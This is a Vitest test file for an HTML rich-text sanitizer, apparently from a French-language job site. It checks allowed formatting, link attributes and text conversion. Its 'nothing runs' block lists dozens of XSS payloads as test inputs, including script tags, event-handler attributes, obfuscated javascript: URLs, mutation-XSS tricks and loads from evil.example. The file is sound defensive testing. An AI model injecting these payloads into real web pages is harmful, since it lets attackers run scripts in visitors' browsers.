import { describe, expect, test } from 'vitest';
import { htmlToText, sanitizeRichText } from './sanitize.ts';

test('a description preserves its form', () => {
  const html =
    '<h2>Missions</h2><p>Tenir la <strong>caisse</strong>,<br />les <em>comptes</em> <u>et</u> <s>le reste</s>.</p>' +
    '<ul><li>Un</li><li>Deux</li></ul><ol><li>Trois</li></ol><blockquote><p>Citation</p></blockquote><h3>a</h3><h4>b</h4>';
  expect(sanitizeRichText(html)).toBe(html);
});

test('other tags of a pasted document preserve their meaning', () => {
  expect(sanitizeRichText('<h1>T</h1><div><b>a</b> <i>b</i> <span style="color:red">c</span></div>')).toBe(
    '<h2>T</h2><p><strong>a</strong> <em>b</em> c</p>',
  );
});

test.each([
  ['https://exemple.ml/x', ' target="_blank"'],
  ['mailto:rh@exemple.ml', ''],
  ['tel:+22370000000', ''],
])('a link to %s is marked as written by a visitor', (href, target) => {
  expect(sanitizeRichText(`<a href="${href}" class="x" onclick="y()">ici</a>`)).toBe(
    `<a href="${href}" rel="noopener nofollow ugc"${target}>ici</a>`,
  );
});

describe('nothing runs', () => {
  test.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<body onload=alert(1)>',
    '<p onmouseover="alert(1)">x</p>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/logout">x</a>',
    '<a href="https://x.example" target="_self" onclick="alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><script>alert(1)</script></textarea>',
    '<xmp><script>alert(1)</script></xmp>',
    '<template><script>alert(1)</script></template>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<isindex action=javascript:alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '"><img src=x onerror=alert(1)>',
    '<p id="location" name="body">x</p>',
  ])('%s', (vector) => {
    const clean = sanitizeRichText(vector);
    const tags = clean.match(/<[^>]*>/g) ?? [];
    for (const tag of tags) {
      expect(tag).toMatch(
        /^<\/?(?:p|br|strong|em|u|s|h[2-4]|ul|ol|li|blockquote|a)(?: \/)?>$|^<a href="(?:https?:|mailto:|tel:)[^"]*" rel="noopener nofollow ugc"(?: target="_blank")?>$/,
      );
    }
    expect(sanitizeRichText(clean)).toBe(clean);
  });
});

test('deep nesting is flattened', () => {
  const clean = sanitizeRichText(`${'<ul><li>'.repeat(500)}x`);
  expect(clean.match(/<ul>/g)?.length).toBeLessThanOrEqual(20);
});

test('text preserves lines, lists and characters', () => {
  expect(
    htmlToText(
      '<h2>Missions</h2>\n<p>Caisse &amp; comptes<br />1 &lt; 2</p><ul><li>Un</li><li><p>Deux</p></li></ul><p>Fin</p><script>x</script>',
    ),
  ).toBe('Missions\n\nCaisse & comptes\n1 < 2\n\n- Un\n- Deux\n\nFin');
});

test('text that spells an entity stays as written', () => {
  expect(htmlToText('<p>&amp;lt;b&amp;gt;</p>')).toBe('&lt;b&gt;');
});
